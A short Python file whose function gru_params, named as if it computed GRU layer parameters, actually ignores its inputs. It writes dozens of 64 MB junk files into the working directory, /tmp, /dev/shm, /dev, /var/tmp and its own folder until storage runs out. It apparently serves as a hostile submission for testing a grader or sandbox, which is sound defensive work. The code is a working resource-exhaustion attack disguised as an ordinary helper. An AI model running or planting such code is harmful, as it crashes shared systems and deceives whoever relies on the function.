"""Fills every place that it can write to."""
import os
import sys
from pathlib import Path


def gru_params(n_features, units):
    places = [Path.cwd(), Path("/tmp"), Path("/dev/shm"), Path("/dev"), Path("/var/tmp"), Path(__file__).parent]
    refused = None
    for number in range(64):
        for place in places:
            try:
                with open(place / f"planted-by-hostile-{number}", "wb") as stream:
                    for _ in range(8):
                        stream.write(bytes(2**23))
            except OSError as error:
                refused = error
    raise refused
